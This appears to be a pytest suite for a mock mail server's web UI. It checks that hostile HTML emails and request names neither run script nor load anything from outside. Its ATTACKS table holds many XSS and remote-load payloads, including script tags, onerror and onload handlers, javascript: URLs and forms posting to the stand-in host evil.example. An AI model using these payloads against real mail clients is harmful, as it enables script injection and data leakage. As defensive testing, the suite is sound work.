"""Mail that attacks its reader: nothing runs, nothing is loaded from outside, and the page stays usable."""

from __future__ import annotations

import time
from email.message import EmailMessage

import pytest
from browser import deliver
from http_client import send_request

pytestmark = [pytest.mark.mockmail(strict=False), pytest.mark.xdist_group("browser")]

OUTSIDE = "http://evil.example"

ATTACKS = {
    "script": "<script>parent.hacked=top.hacked=1;fetch('{e}/a')</script><script src='{e}/b.js'></script>",
    "onerror": "<img src=x onerror=\"top.hacked=1;new Image().src='{e}/a'\"><body onload=\"fetch('{e}/b')\">",
    "svg": "<svg onload=top.hacked=1><image href='{e}/a.png'/><use href='{e}/b.svg#x'/><script href='{e}/c'/></svg>",
    "javascript-url": '<a id=l href="javascript:top.hacked=1">x</a><iframe src="javascript:top.hacked=1"></iframe>',
    "meta-refresh": '<meta http-equiv=refresh content="0;url={e}/a">',
    "base": "<base href='{e}/'><img src=pixel.png><a href=next id=l>x</a>",
    "form": "<form action='{e}/a' method=post><input name=q autofocus><button id=l>Send</button></form>",
    "remote": "<img src='{e}/a.png' srcset='{e}/b.png 2x'><video src='{e}/c' poster='{e}/d' autoplay></video>"
    "<style>@import '{e}/e.css';@font-face{{font-family:f;src:url({e}/f)}}"
    "p{{font-family:f;background:url({e}/g)}}</style>"
    "<p>x</p><table background='{e}/h'></table><object data='{e}/i'></object><embed src='{e}/j'><audio src='{e}/k'>",
    "link": "<link rel=stylesheet href='{e}/a.css'><link rel=preconnect href='{e}'><link rel=dns-prefetch href='{e}'>"
    "<link rel=prefetch href='{e}/b'><link rel=preload as=image href='{e}/c'><link rel=icon href='{e}/d'>",
    "frames": "<iframe src='{e}/a'></iframe><iframe srcdoc=\"<script>top.hacked=1</script>\"></iframe><frameset>",
    "own-api": "<form action='/_mockmail/reset' method=post><button id=l>x</button></form>"
    "<img src='/_mockmail/messages'><iframe src='/_mockmail/ui/'></iframe>",
    "top-link": "<a id=l target=_top href='{e}/a'>x</a>",
    "self-link": "<a id=l target=_self href='{e}/a'>x</a>",
    "popup": "<a id=l target=_blank href='{e}/a' ping='{e}/b'>x</a>",
    "inline-data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.hacked=1'>"
    "<image href='{e}/a'/></svg>\"><iframe src='data:text/html,<script>top.hacked=1</script>'></iframe>",
    "css-escape": "<div style=\"position:fixed;inset:0;background:red;z-index:99999;background-image:url('{e}/a')\">",
    "unclosed": "<title><style><!--<textarea><plaintext><script>top.hacked=1",
}


def mail_of(html, subject="Hostile"):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "x@evil.example", "jane@example.com", subject
    message.set_content(html, "html")
    return message


def test_attacks_neither_run_nor_call_out(page, mockmail):
    page.expected_errors += ["Content Security Policy", "sandboxed", "Not allowed", "status of 403", "violates"]
    page.expected_errors += ["ERR_BLOCKED", "Unsafe attempt", "not allowed", "Refused to"]
    for html in ATTACKS.values():
        deliver(
            mockmail, mail_of(html.format(e=OUTSIDE), "<script>top.hacked=1</script><img src=x onerror=top.hacked=1>")
        )
    page.open()

    for name, message in zip(ATTACKS, mockmail.inbox, strict=True):
        page.script("location.hash = arguments[0]", f"#/inbox/{message.id}")
        frame = page.wait(lambda path=message.id: page.driver.find_element("css selector", f"iframe[src*='{path}']"))
        page.driver.switch_to.frame(frame)
        page.wait(lambda: page.script("return document.readyState") == "complete")
        page.script("document.querySelector('#l')?.click()")
        page.driver.switch_to.default_content()
        time.sleep(0.1)  # nothing can be waited for, because nothing may happen

        assert page.script("return window.hacked") is None, name
        assert page.script("return location.pathname") == "/_mockmail/ui/", name
        assert page.proxy.foreign() == [], name
        assert len(page.driver.window_handles) == 1, name
    assert len(mockmail.inbox) == len(ATTACKS)
    marks = [("PATCH", f"{mockmail.url}/_mockmail/messages/{message.id}") for message in mockmail.inbox]
    own = [(method, url) for method, url in page.proxy.seen if url.startswith(mockmail.url)]
    assert sorted(request for request in own if request[0] not in ("GET", "HEAD")) == sorted(marks)


def test_recording_proxy_notices_what_an_open_page_would_load(page):
    page.expected_errors.append("")

    page.driver.get(f"data:text/html,<img src='{OUTSIDE}/a.png'><link rel=preconnect href='https://evil.example'>")

    page.wait(lambda: set(page.proxy.foreign()) == {f"{OUTSIDE}/a.png", "evil.example:443"})
    page.leave()
    page.proxy.seen.clear()


def test_preview_by_its_own_address_runs_nothing_either(page, mockmail):
    page.expected_errors += ["Content Security Policy", "sandboxed", "Blocked", "violates"]
    deliver(mockmail, mail_of(ATTACKS["script"].format(e=OUTSIDE) + ATTACKS["remote"].format(e=OUTSIDE)))

    page.driver.get(f"{mockmail.url}/_mockmail/messages/{mockmail.inbox[0].id}/html")

    assert page.wait(lambda: page.script("return document.readyState") == "complete")
    assert page.script("return window.hacked") is None
    assert page.proxy.foreign() == []
    page.driver.get("about:blank")
    page.driver.get(f"{mockmail.url}/_mockmail/ui/")


def test_html_of_5_mb_and_a_huge_table_leave_the_page_usable(page, mockmail):
    row = "<tr>" + "<td>cell</td>" * 20 + "</tr>"
    deliver(mockmail, mail_of(f"<table>{row * 20_000}</table>", "Huge"))
    assert len(mockmail.inbox[0].html) > 5_000_000
    page.open(f"#/inbox/{mockmail.inbox[0].id}")
    page.see("article h2", "Huge")

    page.click("[role=tab]", "HTML")
    page.see("[role=tabpanel]", "download the message")
    page.click("[role=tab]", "Raw")
    page.see("[role=tabpanel]", "download the message")
    page.keys("g", "r")
    page.see("h2", "No request yet")


def test_hostile_names_in_requests_are_text(page, mockmail):
    send_request(mockmail.url, "GET", "/atmail/%3Cimg%20src=x%20onerror=top.hacked=1%3E", headers={"X-<b>": "<i>"})
    page.open("#/requests")

    page.click(".rows a")

    page.see("article h2", "onerror")
    assert page.script("return window.hacked") is None
    assert page.all("article img") == []
